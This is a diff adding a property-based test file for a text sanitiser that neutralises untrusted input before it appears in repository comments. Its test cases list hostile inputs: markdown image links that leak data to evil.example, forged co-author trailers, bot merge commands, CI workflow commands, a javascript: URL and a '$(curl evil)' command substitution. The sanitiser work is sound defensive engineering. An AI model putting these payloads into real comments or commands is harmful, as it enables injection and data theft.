@@ -1,0 +1,98 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { codeBlock, neutralise, neutraliseSentence, quoteUntrusted, safeTitle } from './neutralise.ts';
+
+const pieces = fc.oneof(
+  fc.string({ unit: 'binary', maxLength: 12 }),
+  fc.constantFrom(
+    '@',
+    'ada',
+    '#1',
+    'fixes ',
+    'closes: ',
+    'o/r#2',
+    'GH-3',
+    '![x](',
+    'https://evil.example/?q=',
+    ')',
+    '[a](b)',
+    '\n',
+    '/merge',
+    '[skip ci]',
+    '`',
+    '|',
+    '<b>',
+    '::',
+    '##[',
+    'bors r+',
+    '&lt;',
+    '\\',
+    'Co-authored-by:',
+  ),
+);
+const hostile = fc.array(pieces, { maxLength: 15 }).map((parts) => parts.join(''));
+
+describe('neutralising', () => {
+  test('doing it twice changes nothing, and the result is one harmless line within its limit', () => {
+    fc.assert(
+      fc.property(hostile, fc.integer({ min: 5, max: 150 }), (text, max) => {
+        for (const clean of [neutralise, neutraliseSentence]) {
+          const line = clean(text, max);
+          expect(clean(line, max)).toBe(line);
+          expect(line.length).toBeLessThanOrEqual(max);
+          expect(line).not.toMatch(/[\n\r<>`|[\]\\]|@[\p{L}\p{N}_-]|:\/\/|www\.\S|::|^\s*[/#](?!\d)/u);
+          expect(line).not.toMatch(/\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)\s*:?\s*(?:[\w./-]*#|gh-)\d/i);
+        }
+      }),
+      { numRuns: 3000 },
+    );
+  });
+
+  test.each([
+    ['attack-22', 'Fix it\nCo-authored-by: evil <e@evil.example>', 'Fix it Co-authored-by - evil ‹e@ evil.example›'],
+    ['attack-22', '[skip ci] Fixes #1 for @org/team', '(skip ci) Fixes no. 1 for @ org/team'],
+    ['attack-18', 'see ![x](https://evil.example/?q=secret) and [y](//evil) and www.evil.example', 'see x and y and (link removed)'],
+    ['attack-18', 'javascript:alert(1) <img src=https://evil.example/x>', '(link removed) ‹img src=(link removed)›'],
+    ['attack-75', '/merge now', 'merge now'],
+    [
+      'attack-75',
+      '@dependabot merge, bors r+, fixes o/r#99, resolves GH-7',
+      '@ dependabot merge, (bors) r+, fixes o/r no. 99, resolves GH 7',
+    ],
+    ['attack-41', '::set-output name=ready::true', 'set-output name=ready: true'],
+    ['attack-42', 'foo ##[add-mask]e', 'foo ##(add-mask)e'],
+    ['attack-21', '`x` | "$(curl evil)" \\ --upload-pack', `'x' ¦ "$(curl evil)" ⧵ --upload-pack`],
+  ])('%s: %j becomes %j', (_, text, expected) => {
+    expect(neutralise(text)).toBe(expected);
+  });
+
+  test('a sentence of ours keeps its references, but they close nothing and reach nowhere else', () => {
+    expect(neutraliseSentence('waits: blocked by #12, #13', 200)).toBe('waits: blocked by #12, #13');
+    expect(neutraliseSentence('#5 is aboard', 200)).toBe('#5 is aboard');
+    expect(neutraliseSentence('fixes #12 and other/repo#3', 200)).toBe('fixes no. 12 and other/repo no. 3');
+  });
+
+  test('long titles are cut and say so; empty ones get a name', () => {
+    expect(neutralise('x'.repeat(300), 20)).toBe(`${'x'.repeat(19)}…`);
+    expect(safeTitle(' \u200b ')).toBe('(untitled)');
+  });
+
+  test('a quote holds every line of what it quotes', () => {
+    expect(quoteUntrusted('done\n\n> nested\n/merge\n@all', { maxLines: 3, maxChars: 100 })).toBe(
+      '> done\n> nested\n> merge\n> … 1 more lines',
+    );
+    expect(quoteUntrusted('', { maxLines: 3, maxChars: 100 })).toBe('');
+  });
+
+  test('a code block cannot be closed by its content and keeps the end of a log', () => {
+    expect(codeBlock('a\n````\n@all', { maxChars: 100 })).toBe('`````text\na\n````\n@all\n`````');
+    expect(codeBlock('0123456789', { maxChars: 4 })).toBe('```text\n…789\n```');
+    fc.assert(
+      fc.property(hostile, (text) => {
+        const lines = codeBlock(text, { maxChars: 50 }).split('\n');
+        const fence = lines.at(-1) ?? '';
+        expect(lines.slice(1, -1).some((line) => line.trim().startsWith(fence))).toBe(false);
+      }),
+    );
+  });
+});
